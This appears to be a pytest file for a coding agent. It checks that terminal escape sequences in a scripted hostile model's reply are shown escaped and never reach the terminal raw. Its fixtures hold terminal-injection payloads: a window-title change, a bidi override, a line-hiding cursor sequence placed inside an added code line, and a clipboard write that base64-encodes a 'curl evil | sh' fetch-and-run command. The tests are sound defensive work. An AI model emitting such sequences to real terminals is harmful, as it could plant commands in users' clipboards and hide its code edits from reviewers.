"""What ``spotpatch-agent run`` prints is inert in a terminal (issue 12, defect 6).

A hostile model says text holding OSC 0 (window title), OSC 52 (clipboard), a C1 CSI and a bidi override,
and writes a line holding cursor-up + erase-line (which, obeyed, hides the line the diff adds). The run's
stdout and stderr must carry none of those characters raw, and must show them (``\\x1b``), the added line
included.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

from spotpatch_agent.demo.runner import make_demo_project
from spotpatch_agent.demo.script import PRODUCT_CARD
from spotpatch_agent.provider.scripted import ScriptedProviderServer
from tests.engine_client import engine_command

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
HIDE_LINE = "\x1b[1A\x1b[2K"
C1_CSI = "\u009b2J"
BIDI = "\u202e"
RAW = ("\x1b", "\x07", "\u009b", "\u202e", "\r")

OLD = '<button className="btn btn-secondary" onClick={onSave}>Save</button>'
NEW = OLD + "\n      {/* " + HIDE_LINE + "added by the model */}"


def hostile_turns() -> list[dict]:
    return [
        {"text": f"Editing now.{OSC_TITLE}{OSC_CLIPBOARD}{C1_CSI}{BIDI}",
         "toolCalls": [{"id": "c1", "name": "replace_text",
                        "arguments": {"path": PRODUCT_CARD, "oldText": OLD, "newText": NEW}}]},
        {"text": f"Done.{HIDE_LINE}{OSC_TITLE}\r all good"},
    ]


def test_run_shows_control_characters_instead_of_sending_them_to_the_terminal(tmp_path: Path) -> None:
    project = make_demo_project(tmp_path / "app")
    with ScriptedProviderServer(hostile_turns()) as server:
        cfg = tmp_path / "spotpatch.config.json"
        cfg.write_text(json.dumps({"providers": [{
            "id": "s", "displayName": "S", "baseUrl": server.base_url, "apiKeyEnv": "SP_RUN_KEY",
            "models": [{"id": "m", "model": "scripted-model", "displayName": "M"}]}]}))
        env = {k: v for k, v in os.environ.items() if k not in ("OPENAI_API_KEY", "OPENAI_BASE_URL")}
        res = subprocess.run(
            [*engine_command()[:-1], "run", "--project", str(project), "--config", str(cfg),
             "--target", f"{PRODUCT_CARD}:12:7", "--instruction", "Make the Save button primary"],
            capture_output=True, env={**env, "SP_RUN_KEY": "sk-run-key-123456"}, stdin=subprocess.DEVNULL,
            timeout=120)
    out, err = res.stdout.decode("utf-8"), res.stderr.decode("utf-8")
    assert res.returncode == 0, out + err
    for ch in RAW:
        assert ch not in out and ch not in err, f"{ch!r} reached the terminal"
    assert "+      {/* \\x1b[1A\\x1b[2Kadded by the model */}" in out, out  # the added line, visible
    assert "\\x1b]0;pwned\\x07" in out and "\\x1b]52;c;" in out and "\\u202e" in out and "\\x9b2J" in out


def test_inert_keeps_text_tabs_and_newlines_and_shows_every_control() -> None:
    from spotpatch_agent.terminal import inert

    assert inert("a\tb\nc — é ✓ 日本") == "a\tb\nc — é ✓ 日本"
    assert inert("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert inert("\x00\x7f\u0085\u009b\u202a\u2066\u200f\u2028\r") \
        == "\\x00\\x7f\\x85\\x9b\\u202a\\u2066\\u200f\\u2028\\x0d"
    for code in [*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]:
        assert chr(code) not in inert(f"x{chr(code)}y")
